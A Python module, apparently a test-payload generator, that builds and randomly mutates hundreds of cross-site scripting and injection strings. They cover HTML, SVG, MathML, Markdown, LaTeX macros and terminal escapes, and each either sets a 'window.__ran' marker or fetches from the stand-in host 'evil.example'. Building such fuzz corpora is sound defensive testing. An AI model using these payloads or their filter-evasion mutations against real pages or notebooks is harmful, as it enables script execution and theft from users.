"""Texts that try to run code or to fetch something when an answer is shown: made from parts, then mutated.

Every one of them, run, sets `window.__ran` or asks the host `evil.example`.
"""

# ruff: noqa: E501 - attacks and lists are data: each is easiest to read on one line

from __future__ import annotations

import itertools
import random
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

HOST = "evil.example"
RUN = "window.__ran=1"
FETCH = f"//{HOST}/x"

TAGS = [
    "a", "abbr", "animate", "applet", "area", "article", "audio", "base", "bdo", "bgsound", "body", "button",
    "canvas", "center", "col", "command", "custom-element", "data", "details", "dialog", "div", "embed",
    "fieldset", "font", "form", "foreignObject", "frame", "frameset", "head", "html", "iframe", "image",
    "img", "input", "isindex", "keygen", "label", "layer", "link", "listing", "main", "map", "marquee",
    "math", "menu", "meta", "meter", "noembed", "noframes", "noscript", "object", "option", "output",
    "picture", "plaintext", "portal", "pre", "script", "section", "select", "set", "slot", "source",
    "style", "summary", "svg", "table", "td", "template", "textarea", "title", "track", "video", "xmp", "xss",
]  # fmt: skip
EVENTS = [
    "onabort", "onafterprint", "onanimationend", "onanimationstart", "onauxclick", "onbeforeinput",
    "onbeforematch", "onbeforetoggle", "onbegin", "onblur", "oncanplay", "onclick", "oncontentvisibilityautostatechange",
    "oncopy", "oncut", "ondragend", "onend", "onerror", "onfinish", "onfocus", "onfocusin", "onformdata",
    "onhashchange", "oninput", "oninvalid", "onload", "onloadstart", "onmessage", "onmouseenter",
    "onmouseover", "onpageshow", "onpaste", "onpointerrawupdate", "onpopstate", "onrepeat", "onresize",
    "onscroll", "onscrollend", "onscrollsnapchange", "onsearch", "onsecuritypolicyviolation", "onselect",
    "onstart", "onsubmit", "ontimeupdate", "ontoggle", "ontransitionend", "onunhandledrejection",
    "onunload", "onwebkitanimationstart", "onwheel",
]  # fmt: skip
LOADS = [
    "src", "srcset", "href", "xlink:href", "data", "poster", "background", "action", "formaction", "srcdoc",
    "manifest", "ping", "cite", "codebase", "archive", "classid", "code", "dynsrc", "lowsrc", "imagesrcset",
    "content", "from", "to", "values", "by", "profile", "longdesc", "usemap", "filter", "mask", "fill", "attributionsrc",
]  # fmt: skip
SCHEMES = ["javascript:", "vbscript:", "data:text/html,", "data:image/svg+xml,", "blob:", "view-source:", "livescript:",
           "feed:javascript:", "jar:", "file:///", "filesystem:", "about:blank#", "ms-its:", "x-javascript:"]  # fmt: skip
SPACES = [" ", "\t", "\n", "\f", "/", "//", " /", "\r", "\v", "\x00", "\u2028", "\u3000", "/**/"]
QUOTES = ['"{}"', "'{}'", "{}", "`{}`", '"{}', "'{}"]

HTML = [
    "<script>{run}</script>", "<script src={fetch}></script>", "<script type=module>{run}</script>", "<script/{run}>{run}</script >",
    "<scr<script>ipt>{run}</scr</script>ipt>", "<<script>{run}//<</script>", "<script\x00>{run}</script>", "<script>/*{run}",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>", "<iframe src='javascript:parent.{run}'>", "<object data=javascript:{run}>",
    "<embed src={fetch}>", "<link rel=stylesheet href={fetch}>", "<link rel=prefetch href={fetch}>", "<link rel=dns-prefetch href={fetch}>",
    "<style>@import '{fetch}';</style>", "<style>*{{background:url({fetch})}}</style>", "<p style='background:url({fetch})'>x</p>",
    "<base href={fetch}/><img src=y>", "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<meta http-equiv=refresh content='0;url={fetch}'>",
    "<form id=f action=javascript:{run}><input type=submit autofocus></form>", "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>",
    "<details open ontoggle={run}>x</details>", "<video><source onerror={run}></video>", "<audio src={fetch} autoplay onerror={run}>",
    "<picture><source srcset={fetch}><img onerror={run} src=x></picture>", "<img src={fetch}>", "<img srcset='{fetch} 1x'>", "<img/src=x/onerror={run}>",
    "<img src=x onerror\n=\n{run}>", "<img src='x'onerror='{run}'>", "<IMG SRC=x OnErRoR={run}>", "<img src=x:x onerror=&#119;indow.__ran=1>",
    "<table background={fetch}><td background={fetch}>", "<body background={fetch}>", "<video poster={fetch}>", "<input type=image src={fetch}>",
    "<button formaction=javascript:{run}>x</button>", "<a href=javascript:{run} autofocus onfocus={run} tabindex=1>x</a>", "<a ping={fetch} href=#>x</a>",
    "<div id=__ran name=__ran>x</div>", "<a id=kernel href=javascript:{run}>x</a>", "<button data-commandlinker-command=terminal:create-new>x</button>",
    "<marquee onstart={run}>x</marquee>", "<xss onpointerrawupdate={run} style=display:block>x</xss>", "<xss id=x tabindex=1 onfocus={run}></xss>",
    "<style>@keyframes a{{}}</style><xss style='animation-name:a' onanimationstart={run}>", "<x contenteditable onblur={run}>x", "<bgsound src={fetch}>",
    "<isindex type=image src=1 onerror={run}>", "<frameset onload={run}><frame src={fetch}>", "<portal src={fetch}>", "<fencedframe src={fetch}>",
    "<template shadowrootmode=open><img src=x onerror={run}></template>", "<div><template shadowrootmode=open><style>@import '{fetch}'</style></template></div>",
    "<dialog open onfocusin={run}><input autofocus></dialog>", "<div popover id=p onbeforetoggle={run}>x</div><button popovertarget=p>y</button>",
    '<script type=importmap>{{"imports":{{"a":"{fetch}"}}}}</script>', '<script type=speculationrules>{{"prefetch":[{{"urls":["{fetch}"]}}]}}</script>',
]  # fmt: skip
FOREIGN = [
    "<svg onload={run}>", "<svg/onload={run}>", "<svg><script>{run}</script></svg>", "<svg><script href=data:,{run} />", "<svg><script xlink:href={fetch} />",
    "<svg><image href={fetch} onerror={run} /></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload={run} />#x' /></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><a><animate attributeName=href values=javascript:{run} /><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onload to={run}>", "<svg><foreignObject><iframe src=javascript:{run}></foreignObject></svg>", "<svg><style>@import '{fetch}'</style></svg>",
    "<svg><filter><feImage href={fetch} /></filter></svg>", "<svg><handler type=text/javascript ev:event=load>{run}</handler></svg>", "<svg><discard onbegin={run}>",
    "<math href=javascript:{run}>x</math>", "<math><maction actiontype=statusline#{fetch} xlink:href=javascript:{run}>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={run}></annotation-xml></math>", "<math><mi xlink:href=javascript:{run}>x</mi></math>",
    "<math><mglyph src={fetch} /></math>", "<svg><title><img src=x onerror={run}></title></svg>", "<svg><desc><img src=x onerror={run}></desc></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror={run}>'>", "<svg><p><style><img src=x onerror={run}></style></p></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={run}&gt;'>", "<math></p><style><!--</style><img src/onerror={run}>--></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>", "<math><mtext><mglyph><style><math><img src=x onerror={run}></style>",
    "<svg><![CDATA[><img src=x onerror={run}>]]></svg>", "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror={run}>'></style></h1>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<xmp><p title='</xmp><img src=x onerror={run}>'>", "<textarea><p title='</textarea><img src=x onerror={run}>'>",
    "<title><p title='</title><img src=x onerror={run}>'>", "<noembed><p title='</noembed><img src=x onerror={run}>'>", "<iframe><p title='</iframe><img src=x onerror={run}>'>",
    "<!--><img src=x onerror={run}>-->", "<!--><!--!><img src=x onerror={run}>-->", "<!-- --!><img src=x onerror={run}> -->", "<![CDATA[<img src=x onerror={run}>]]>",
    "<?xml-stylesheet href={fetch} ?><img src=x onerror={run}>", "<!DOCTYPE x [<!ENTITY x SYSTEM '{fetch}'>]><x>&x;</x>", "</p><img src=x onerror={run}>", "<plaintext><img src=x onerror={run}>",
    "<select><template><img src=x onerror={run}></template></select>", "<table><tr><td><svg><desc><td><img src=x onerror={run}>", "<listing>&lt;img src=x onerror={run}&gt;</listing>",
    "<option><style></option></select><img src=x onerror={run}></style>", "<a><b><a><b><img src=x onerror={run}>", "<p><p><table><a><tr><a><img src=x onerror={run}>",
]  # fmt: skip
LINKS = [
    "[x]({})", "[x](<{}>)", "<{}>", "![x]({})", "![x](<{}>)", '[x]({} "t")', "[x]({} 'onmouseover={{run}}')", "[x][r]\n\n[r]: {}", "[r]\n\n[r]: <{}> 'a\"onclick=1'",
    "[![x]({0})]({0})", "![![x]({0})]({0})", "[x](  {}  )", "[x]\n({})", "[a]({}){{: onclick=1}}", "![]({})", "[x](%0A{})", "[<img src={}>](https://a.b)",
    '[x](https://a.b"onclick={{run}} {})', "<a@b.c?{}>", "<https://a.b/'onclick={{run}}//{}>", "[x](\\{})", "[{0}]({0})", "*[x]({})*", "{}",
]  # fmt: skip
MACROS = [
    r"\href{{javascript:{run}}}{{x}}", r"\href{{ {fetch} }}{{x}}", r"\url{{javascript:{run}}}", r"\require{{html}}\href{{javascript:{run}}}{{x}}", r"\class{{jp-x {run}}}{{x}}",
    r"\cssId{{kernel}}{{\style{{background:url({fetch})}}{{x}}}}", r"\style{{background:url({fetch})}}{{x}}", r"\includegraphics{{ {fetch} }}", r"\def\x{{\href{{javascript:{run}}}{{y}}}}\x",
    r"\newcommand{{\x}}[1]{{\href{{javascript:{run}}}{{#1}}}}\x{{y}}", r"\let\frac\href\frac{{javascript:{run}}}{{y}}", r"\unicode[x;background:url({fetch})]{{65}}",
    r"\mmlToken{{mtext}}[href='javascript:{run}']{{x}}", r"\bbox[background:url({fetch})]{{x}}", r"\text{{$\href{{javascript:{run}}}{{x}}$}}", r"\text{{\(\href{{javascript:{run}}}{{x}}\)}}",
    r"\csname href\endcsname{{javascript:{run}}}{{x}}", r"\data{{x={run}}}{{y}}", r"\color{{url({fetch})}}x", r"\textcolor[rgb]{{1;background:url({fetch})}}{{x}}", r"\ce{{\href{{javascript:{run}}}{{x}}}}",
    r"\begin{{array}}{{\href{{javascript:{run}}}{{x}}}}\end{{array}}", r"\tag{{\href{{javascript:{run}}}{{x}}}}", r"\label{{<img src=x onerror={run}>}}", r"\hskip1em\kern9999pt{run}",
    r"x\) \(\href{{javascript:{run}}}{{y}}", r"x\] \[\href{{javascript:{run}}}{{y}}", r"x$ \[\href{{javascript:{run}}}{{y}}\] $", r"</span><img src=x onerror={run}>", r"\text{{<img src=x onerror={run}>}}",
    r"\rule{{1000em}}{{1000em}}", r"\texttip{{x}}{{{run}}}", r"\special{{html:<script>{run}</script>}}", r"\input{{{fetch}}}", r"\htmlData{{x={run}}}{{y}}", r"\htmlClass{{x}}{{y}}", r"\mathchoice{{\href{{javascript:{run}}}x}}{{}}{{}}{{}}",
    r"\newenvironment{{x}}{{\href{{javascript:{run}}}{{y}}}}{{}}\begin{{x}}\end{{x}}", r"\DeclareMathOperator{{\x}}{{\href{{javascript:{run}}}{{y}}}}\x", r"\begin{{align}}\href{{javascript:{run}}}{{x}}\end{{align}}", r"\\href{{javascript:{run}}}{{x}}", r"\operatorname{{\href{{javascript:{run}}}{{x}}}}",
]  # fmt: skip
MATHS = ["${}$", "$${}$$", "$$\n{}\n$$", "\\({}\\)", "\\[{}\\]", "\\[\n{}\n\\]", "\\begin{{align}}\n{}\n\\end{{align}}", "\\\\({}\\\\)", "\\begin{{equation}}{}\\end{{equation}}", "`${}$`", "$`{}`$", "```math\n{}\n```"]  # fmt: skip
PLACES = [
    "{}", "# {}", "> {}", "- {}", "- [ ] {}", "1. {}", "**{}**", "*{}", "~~{}~~", "| a |\n|---|\n| {} |", "| {} |\n|---|\n| x |", "`{}`", "`` {} `", "``` {}\nx\n```", "```html\n{}\n```", "~~~{}\nx\n~~~",
    "```{}", "    {}", "[{}](https://a.b)", "![{}](https://a.b/c.png)", "[x](https://a.b '{}')", "x[^1]\n\n[^1]: {}", "x[^{}]", "[^1]: x\n\n{}", "<div>\n{}\n</div>", "<div>\n\n{}\n\n</div>", "{}\n===", "$x$ {} $y$", "\\{}", "<!-- {} -->", "<p>{}", "a\n{}\nb",
]  # fmt: skip
TERMINAL = ["\x1b[31m{}\x1b[0m", "\x1b]8;;javascript:{}\x1b\\x\x1b]8;;\x1b\\", "\x1b]52;c;{}\x07", "\x9b31m{}", "\x1b]0;{}\x07", "\x1bP{}\x1b\\", "\x08\x08{}", "\r{}"]  # fmt: skip


def _filled(parts: list[str]) -> Iterator[str]:
    return (part.format(run=RUN, fetch=FETCH) for part in parts)


def _attributes() -> Iterator[str]:
    """Every tag with every event, and with every attribute that may load something."""
    turns = itertools.cycle(itertools.product(SPACES, QUOTES))
    for tag in TAGS:
        for event in EVENTS:
            space, quote = next(turns)
            yield f"<{tag}{space}{event}={quote.format(RUN)} src=x autofocus tabindex=1>x</{tag}>"
        for load in LOADS:
            space, quote = next(turns)
            yield f"<{tag}{space}{load}={quote.format(FETCH)}>x</{tag}>"
            yield f"<{tag} {load}={quote.format('javascript:' + RUN)}>x"


def _urls() -> Iterator[str]:
    for scheme in SCHEMES:
        word, colon = scheme[:-1], scheme[-1]
        yield scheme + RUN
        yield scheme.upper() + RUN
        yield f"\x01{scheme}{RUN}"
        yield f"{word[:4]}\t{word[4:]}{colon}{RUN}"
        yield f"{word[:4]}&#10;{word[4:]}{colon}{RUN}"
        yield f"{word[:4]}&Tab;{word[4:]}&colon;{RUN}"
        yield "".join(f"&#{ord(char)};" for char in scheme) + RUN
        yield "".join(f"&#x{ord(char):07x}" for char in scheme) + RUN
        yield "".join(f"%{ord(char):02x}" for char in scheme) + RUN
        yield f"{word}\u00ad{colon}{RUN}"
        yield f"\ufeff{scheme}%0a{RUN}"
    yield from (
        FETCH,
        f"\\\\{HOST}\\x",
        f"/\\{HOST}/x",
        "/api/kernels",
        "lab/tree",
        "../../files/x",
        "#x",
        "?x",
        ".",
        "",
    )


def parts() -> list[str]:
    """Return all payloads before any mutation."""
    links = (link.format(url) for link, url in itertools.product(LINKS, _urls()))
    macros = list(_filled(MACROS))
    maths = (math.format(macro) for math, macro in itertools.product(MATHS, macros))
    return [*_filled(HTML), *_filled(FOREIGN), *links, *maths, *_attributes()]


def _swap_case(text: str, rng: random.Random) -> str:
    return "".join(char.swapcase() if rng.random() < 0.3 else char for char in text)


def _encode(text: str, rng: random.Random) -> str:
    forms = ("&#{};", "&#x{:x};", "&#{:07d}", "\\u{:04x}", "%{:02x}")
    return "".join(rng.choice(forms).format(ord(char)) if rng.random() < 0.1 else char for char in text)


def _insert(text: str, rng: random.Random) -> str:
    place = rng.randrange(len(text) + 1)
    bits = ("\x00", "\n", "\t", "\r", "\n\n", "<!-- -->", "`", "\\", "*", "&", "<", ">", "'", '"', "$", "\ufeff", "\u202e", "|", "]", "<br>", "\x1b[1m")  # fmt: skip
    return text[:place] + rng.choice(bits) + text[place:]


def _cut(text: str, rng: random.Random) -> str:
    return text[: rng.randrange(len(text) + 1)]


def _double(text: str, rng: random.Random) -> str:
    place = rng.randrange(len(text) + 1)
    return text[:place] + text + text[place:]


def _place(text: str, rng: random.Random) -> str:
    return rng.choice(PLACES).format(text)


MUTATIONS = (_swap_case, _encode, _insert, _insert, _cut, _double, _place, _place)


def attacks(count: int, seed: int = 7) -> list[str]:
    """Make payloads, the same ones each time.

    Args:
        count: How many; the first are plain, as many as there are, up to half of all.
        seed: Where the mutations come from.
    """
    rng, plain = random.Random(seed), parts()
    found = rng.sample(plain, min(len(plain), count // 2))
    while len(found) < count:
        text = rng.choice(plain)
        if rng.random() < 0.2:
            text += rng.choice(plain)
        for _ in range(rng.randint(1, 3)):
            text = rng.choice(MUTATIONS)(text, rng)
        found.append(text)
    return found
